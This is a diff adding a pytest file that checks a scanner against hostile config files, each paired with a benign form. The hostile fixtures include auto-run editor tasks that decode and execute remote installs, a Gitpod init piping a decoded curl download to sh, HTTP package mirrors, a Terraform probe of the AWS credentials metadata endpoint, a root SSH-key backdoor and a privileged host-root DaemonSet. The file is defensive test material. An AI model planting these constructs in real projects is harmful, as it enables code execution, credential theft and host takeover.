@@ -1,0 +1,112 @@
+"""Config files a tool executes or obeys (skillpm/scan/obeyed.py and PE-03's hostPath form): each catch beside
+its honest form, which must stay clean. Forms other than held-out-code-23's four misses (a dev container's
+command, a Gitpod task, Maven mirrors, Cargo sources, a Groovy init script, a Terraform AWS metadata host) are
+written so that the reading is of the construct, not of one skill."""
+
+from __future__ import annotations
+
+import base64
+
+import pytest
+
+from tests.scan.gap_helpers import CLEAN, check_variant, variant
+
+
+def _b64(s: str) -> str:
+    return base64.b64encode(s.encode()).decode()
+
+
+def _tasks(command: str, args: list[str], run_on: str = "folderOpen") -> str:
+    import json
+
+    task = {"label": "warm cache", "type": "process", "command": command, "args": args,
+            "presentation": {"reveal": "never"}, "problemMatcher": []}
+    if run_on:
+        task["runOptions"] = {"runOn": run_on}
+    return "{\n  // workspace tasks\n  \"version\": \"2.0.0\",\n  \"tasks\": " + json.dumps([task], indent=2) + ",\n}\n"
+
+
+CASES = [
+    # ---------------------------------------------------------------- editor and dev environment auto-run
+    variant("vscode-folder-open-python-decodes-uvx", {
+        ".vscode/tasks.json": _tasks("python3", ["-c", "import base64,os;os.system(base64.b64decode('"
+                                                 + _b64("uvx --from git+https://github.com/x/y toolz") + "').decode())"])},
+        expect=["supply-chain"]),
+    variant("vscode-folder-open-npx-yes", {
+        ".vscode/tasks.json": _tasks("npx", ["--yes", "lint-warmup@latest"])}, expect=["supply-chain"]),
+    variant("vscode-build-task-npx-not-on-open", {
+        ".vscode/tasks.json": _tasks("npx", ["--yes", "lint-warmup@latest"], run_on="")}, expect=CLEAN),
+    variant("vscode-folder-open-local-watch", {
+        ".vscode/tasks.json": _tasks("npm", ["run", "watch"])}, expect=CLEAN),
+    variant("devcontainer-post-create-pnpm-dlx", {
+        ".devcontainer/devcontainer.json": '{\n  "image": "node:20",\n  "postCreateCommand": {"deps": "npm ci", '
+                                           '"warm": "pnpm dlx cache-primer@latest --global"}\n}\n'},
+        expect=["supply-chain"]),
+    variant("devcontainer-post-create-npm-ci", {
+        ".devcontainer/devcontainer.json": '{\n  "image": "node:20",\n  // install the lockfile\n'
+                                           '  "postCreateCommand": "npm ci",\n  "postStartCommand": ["npm", "run", "dev"],\n}\n'},
+        expect=CLEAN),
+    variant("gitpod-init-decoded-curl", {
+        ".gitpod.yml": "tasks:\n  - name: setup\n    init: echo " + _b64("curl -fsSL https://gp-boot.devtools-cdn.net/i.sh | sh")
+                       + " | base64 -d | sh\n    command: npm run dev\n"},
+        expect=["supply-chain"]),
+    variant("vscode-settings-trust-off-beside-folder-open-task", {
+        ".vscode/settings.json": '{\n  "editor.formatOnSave": true,\n  "security.workspace.trust.enabled": false\n}\n',
+        ".vscode/tasks.json": _tasks("npm", ["run", "watch"])}, expect=["privilege-escalation"]),
+    variant("vscode-settings-format-on-save", {
+        ".vscode/settings.json": '{\n  "editor.formatOnSave": true,\n  "task.allowAutomaticTasks": "off"\n}\n'},
+        expect=CLEAN),
+    # ---------------------------------------------------------------- repositories put first
+    variant("gradle-groovy-init-script-decoded-repo", {
+        "gradle/init.gradle": "def u = new String('" + _b64("https://mvn.buildcache-eu.net/releases/") + "'.decodeBase64())\n"
+                              "allprojects {\n  repositories {\n    maven { url u }\n  }\n}\n"},
+        expect=["supply-chain"]),
+    variant("gradle-project-own-https-repo", {
+        "build.gradle.kts": 'repositories {\n    mavenCentral()\n    google()\n'
+                            '    maven { url = uri("https://maven.mycompany.example/releases") }\n}\n'}, expect=CLEAN),
+    variant("maven-mirror-of-central-plain-http", {
+        "conf/settings.xml": "<settings>\n  <mirrors>\n    <mirror>\n      <id>m</id>\n      <mirrorOf>central</mirrorOf>\n"
+                             "      <url>http://repo.fastmaven.cc/central/</url>\n    </mirror>\n  </mirrors>\n</settings>\n"},
+        expect=["supply-chain"]),
+    variant("maven-mirror-of-star-company-https", {
+        "conf/settings.xml": "<settings>\n  <mirrors>\n    <mirror>\n      <id>nexus</id>\n      <mirrorOf>*</mirrorOf>\n"
+                             "      <url>https://nexus.mycompany.example/repository/maven-public/</url>\n    </mirror>\n"
+                             "  </mirrors>\n</settings>\n"}, expect=CLEAN),
+    variant("cargo-crates-io-replaced-over-http", {
+        ".cargo/config.toml": '[source.crates-io]\nreplace-with = "fast"\n\n[source.fast]\n'
+                              'registry = "sparse+http://crates.mirror-fast.cc/index/"\n'}, expect=["supply-chain"]),
+    variant("cargo-vendored-sources", {
+        ".cargo/config.toml": '[source.crates-io]\nreplace-with = "vendored-sources"\n\n[source.vendored-sources]\n'
+                              'directory = "vendor"\n'}, expect=CLEAN),
+    # ---------------------------------------------------------------- encoded values a config decodes
+    variant("terraform-aws-imds-host-in-decoded-local", {
+        "infra/main.tf": 'locals {\n  probe = base64decode("' + _b64("http://169.254.169.254/latest/meta-data/iam/security-credentials/")
+                         + '")\n}\n\ndata "http" "probe" {\n  url = local.probe\n}\n'}, expect=["ssrf"]),
+    variant("terraform-public-api-http-data", {
+        "infra/main.tf": 'locals {\n  tags = jsondecode(base64decode(var.tags_b64))\n}\n\ndata "http" "ip_ranges" {\n'
+                         '  url = "https://ip-ranges.amazonaws.com/ip-ranges.json"\n}\n',
+        "infra/variables.tf": 'variable "tags_b64" {\n  default = "' + _b64('{"team": "platform", "env": "dev"}') + '"\n}\n'},
+        expect=CLEAN),
+    # ---------------------------------------------------------------- cluster manifests
+    variant("k8s-configmap-script-writes-root-keys", {
+        "deploy/agent.yaml": "apiVersion: v1\nkind: ConfigMap\nmetadata:\n  name: node-setup\ndata:\n  setup.sh: |\n"
+                             "    #!/bin/sh\n    R=/node\n    mkdir -p $R/root/.ssh\n"
+                             "    echo \"$OPS_KEY\" >> \"$R/root/.ssh/authorized_keys\"\n"}, expect=["privilege-escalation"]),
+    variant("k8s-configmap-script-log-rotate", {
+        "deploy/agent.yaml": "apiVersion: v1\nkind: ConfigMap\nmetadata:\n  name: logrotate\ndata:\n  rotate.sh: |\n"
+                             "    #!/bin/sh\n    find /var/log/app -name '*.log' -size +100M -exec gzip {} \\;\n"}, expect=CLEAN),
+    variant("k8s-daemonset-host-root", {
+        "deploy/ds.yaml": "apiVersion: apps/v1\nkind: DaemonSet\nmetadata:\n  name: agent\nspec:\n  template:\n    spec:\n"
+                          "      containers:\n        - name: a\n          image: busybox\n          securityContext:\n"
+                          "            privileged: true\n      volumes:\n        - name: root\n          hostPath:\n"
+                          "            path: /\n"}, expect=["privilege-escalation"]),
+    variant("k8s-daemonset-logging-agent", {
+        "deploy/ds.yaml": "apiVersion: apps/v1\nkind: DaemonSet\nmetadata:\n  name: fluent-bit\nspec:\n  template:\n    spec:\n"
+                          "      containers:\n        - name: fb\n          image: fluent/fluent-bit:3.0\n      volumes:\n"
+                          "        - name: varlog\n          hostPath:\n            path: /var/log\n"}, expect=CLEAN),
+]
+
+
+@pytest.mark.parametrize("files, skill, expect", CASES)
+def test_config_kind(files, skill, expect):
+    check_variant(files, skill, expect)
